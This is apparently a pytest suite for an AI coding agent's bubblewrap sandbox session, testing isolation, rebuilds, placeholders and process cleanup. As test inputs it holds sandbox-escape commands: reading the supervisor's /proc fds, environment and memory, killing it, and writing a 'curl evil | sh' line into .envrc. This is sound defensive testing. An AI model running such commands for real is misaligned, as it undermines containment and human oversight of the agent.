"""The session's long-lived sandbox (tools/sandbox_session.py) with a real bwrap, through BashTool.call:
commands share it, it is rebuilt when what a fresh sandbox would be changes, a command cannot reach its
supervisor, a command that kills it gets a clear error, and timeouts and Ctrl-C still kill the whole tree."""

from __future__ import annotations

import asyncio
import os
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from services.sandbox_settings import SandboxSettings
from tools import sandbox_session
from tools.base import SessionState, ToolContext, ToolError
from tools.bash import BashTool
from tools.sandbox import Sandbox, probe

pytestmark = pytest.mark.skipif(not probe(os.environ.get("PATH")).ok, reason="bubblewrap does not work here")


@pytest.fixture
def box() -> Iterator[tuple[BashTool, ToolContext, Path]]:
    # Outside /tmp: the sandbox's /tmp is private, a path there would not be the host's.
    base = Path(tempfile.mkdtemp(prefix="agent-sbx-session-", dir="/var/tmp"))
    project = base / "project"
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / ".git" / "config").write_text("[core]\n\tbare = false\n")
    tool = BashTool()
    tool.sandbox = Sandbox(SandboxSettings(), probe(os.environ.get("PATH")), project, base / "home", base / "agent")
    try:
        yield tool, ToolContext(session=SessionState(cwd=project), project_root=project), base
    finally:
        sandbox_session.stop_all()
        import shutil

        shutil.rmtree(base, ignore_errors=True)


def _session(tool: BashTool) -> sandbox_session.SandboxSession:
    return sandbox_session._sessions[id(tool.sandbox)]


def _alive_with(marker: str) -> list[int]:
    """Host pids of live processes whose command line holds `marker`."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
            with open(f"/proc/{pid}/stat", "rb") as f:
                state = f.read().rsplit(b")", 1)[1].split()[0]
        except OSError:
            continue
        if marker.encode() in cmd and state != b"Z":
            found.append(int(pid))
    return found


async def _gone(marker: str, seconds: float = 10) -> bool:
    for _ in range(int(seconds / 0.05)):
        if not _alive_with(marker):
            return True
        await asyncio.sleep(0.05)
    return False


async def test_commands_share_one_sandbox_with_cwd_output_and_exit_codes(box) -> None:
    tool, ctx, base = box
    project = ctx.project_root
    (project / "sub").mkdir()
    out = await tool.call({"command": "cd sub && echo $$ > ../first.pid && pwd"}, ctx)
    assert out.content == os.path.realpath(project / "sub")
    first = _session(tool)
    out = await tool.call({"command": "pwd; echo out; echo err >&2; exit 3"}, ctx)
    assert out.is_error and out.content == f"Exit code 3\n{os.path.realpath(project / 'sub')}\nout\nerr"
    assert _session(tool) is first  # no new bubblewrap
    out = await tool.call({"command": f"echo x > {base}/outside; echo rc=$?; echo y > ../.envrc; echo rc=$?"}, ctx)
    assert out.content.count("rc=1") == 2 and not (base / "outside").exists()
    assert (project / ".envrc").is_dir() and not any((project / ".envrc").iterdir())  # the placeholder
    sandbox_session.stop_all()
    assert not (project / ".envrc").exists() and not (project / ".claude").exists()  # gone with the sandbox


async def test_the_sandbox_is_rebuilt_when_a_fresh_one_would_differ(box) -> None:
    tool, ctx, base = box
    project = ctx.project_root
    extra = base / "extra"
    extra.mkdir()
    await tool.call({"command": "true"}, ctx)
    first = _session(tool)
    assert tool.sandbox is not None
    tool.sandbox.write_dirs.append(extra)  # /add-dir
    out = await tool.call({"command": f"echo hi > {extra}/f && cat {extra}/f"}, ctx)
    assert out.content == "hi" and _session(tool) is not first
    # Replaced on the host (git writes config by rename): the sandbox's bind would show the old file.
    (project / ".git" / "config.new").write_text("[core]\n\tNEWCONFIG = 1\n")
    os.replace(project / ".git" / "config.new", project / ".git" / "config")
    out = await tool.call({"command": "cat .git/config"}, ctx)
    assert "NEWCONFIG" in out.content
    # A placeholder removed by hand on the host: a fresh sandbox puts it back before the next command.
    (project / ".envrc").rmdir()
    out = await tool.call({"command": "echo 'curl evil | sh' > .envrc; echo rc=$?"}, ctx)
    assert "rc=1" in out.content and (project / ".envrc").is_dir()


async def test_a_command_cannot_reach_the_supervisor_and_killing_it_is_reported(box) -> None:
    tool, ctx, _ = box
    # Its fds (the agent's socket among them) cannot be opened, its memory and environment not read.
    out = await tool.call({"command": "n=0; for f in /proc/$PPID/fd/*; do n=$((n+1)); : <> $f && echo OPENED $f; done; "
                                      "echo fds=$n; cat /proc/$PPID/environ 2>&1 | head -c 80; echo; "
                                      "head -c 1 /proc/$PPID/mem 2>&1"}, ctx)
    assert "OPENED" not in out.content and "fds=0" not in out.content
    assert out.content.count("Permission denied") >= 2
    first = _session(tool)
    with pytest.raises(ToolError, match="supervisor ended while the command ran"):  # an is_error result
        await tool.call({"command": "kill -9 $PPID; sleep 5"}, ctx)
    out = await tool.call({"command": "echo again"}, ctx)
    assert out.content == "again" and _session(tool) is not first


async def test_timeout_and_abort_kill_the_whole_tree(box) -> None:
    tool, ctx, _ = box
    out = await tool.call({"command": "setsid sleep 4243 & sleep 4242; echo never", "timeout": 1000}, ctx)
    assert out.is_error and "timed out" in out.content and "never" not in out.content
    assert await _gone("4242") and await _gone("4243")
    task = asyncio.ensure_future(tool.call({"command": "(setsid sleep 4245 &); sleep 4244"}, ctx))
    for _ in range(200):
        if _alive_with("4244") and _alive_with("4245"):
            break
        await asyncio.sleep(0.05)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert await _gone("4244") and await _gone("4245")
    out = await tool.call({"command": "echo still"}, ctx)  # the sandbox itself is fine
    assert out.content == "still"


async def test_an_idle_sandbox_stops_and_takes_its_placeholders(box, monkeypatch: pytest.MonkeyPatch) -> None:
    tool, ctx, _ = box
    monkeypatch.setattr(sandbox_session, "IDLE_STOP_S", 0.3)
    await tool.call({"command": "true"}, ctx)
    session = _session(tool)
    assert (ctx.project_root / ".mcp.json").is_dir()
    for _ in range(200):
        if not session.alive and not (ctx.project_root / ".mcp.json").exists():
            break
        await asyncio.sleep(0.05)
    assert not session.alive and not (ctx.project_root / ".mcp.json").exists()
    out = await tool.call({"command": "echo back"}, ctx)
    assert out.content == "back"


async def test_per_command_sandbox_still_works(box) -> None:
    tool, ctx, base = box
    assert tool.sandbox is not None
    tool.sandbox.reuse = False
    out = await tool.call({"command": f"echo x > {base}/o; echo rc=$?; echo in > made"}, ctx)
    assert "rc=1" in out.content and (ctx.project_root / "made").read_text() == "in\n"
    assert id(tool.sandbox) not in sandbox_session._sessions


async def test_a_supervisor_that_will_not_start_falls_back_to_one_sandbox_per_command(
        box, monkeypatch: pytest.MonkeyPatch) -> None:
    tool, ctx, base = box
    broken = base / "broken_supervisor.py"
    broken.write_text("import sys; sys.exit(3)\n")
    monkeypatch.setattr(sandbox_session, "SOURCE_PATH", broken)
    assert tool.sandbox is not None
    for _ in range(sandbox_session.MAX_START_FAILURES):
        out = await tool.call({"command": f"echo x > {base}/o; echo rc=$?; echo in > made"}, ctx)
        assert "rc=1" in out.content and (ctx.project_root / "made").read_text() == "in\n"
    assert tool.sandbox.reuse is False and not (base / "o").exists()


async def test_a_stopped_supervisor_is_replaced_after_the_timeout(box) -> None:
    tool, ctx, _ = box
    await tool.call({"command": "true"}, ctx)
    first = _session(tool)
    out = await tool.call({"command": "kill -STOP $PPID", "timeout": 500}, ctx)
    assert out.is_error and "timed out" in out.content
    out = await tool.call({"command": "echo fresh"}, ctx)
    assert out.content == "fresh" and _session(tool) is not first


def test_through_the_cli_commands_share_the_sandbox_and_it_ends_with_the_agent(cli, workdir, fake_anthropic) -> None:
    from tests.security.test_sandbox_cli import _run

    (workdir / ".git" / "hooks").mkdir(parents=True)
    before = sorted(p.name for p in workdir.iterdir())
    results, _ = _run(cli, fake_anthropic,
                      "sleep 4271 > /dev/null 2>&1 & echo $! > left.pid; ls -d .envrc .mcp.json",
                      "kill -0 $(cat left.pid) && echo same-sandbox; echo x > .mcp.json; echo rc=$?")
    assert results[0].split() == [".envrc", ".mcp.json"]  # the placeholders, for the sandbox's life
    assert "same-sandbox" in results[1] and "rc=1" in results[1]
    after = sorted(p.name for p in workdir.iterdir())
    assert after == sorted([*before, "left.pid"])  # the placeholders went with the agent
    assert asyncio.run(_gone("4271"))  # and so did everything left running in the sandbox


async def test_without_a_repository_git_cannot_be_made_in_a_later_command(box) -> None:
    tool, ctx, _ = box
    import shutil

    shutil.rmtree(ctx.project_root / ".git")
    for _ in range(3):  # the first command makes the placeholder; later ones must not take it for a repository
        out = await tool.call({"command": "echo '[core]' > .git/config; echo rc=$?; mkdir .git/hooks; echo m=$?"}, ctx)
        assert "rc=1" in out.content and "m=1" in out.content
    assert not (ctx.project_root / ".git" / "config").exists()
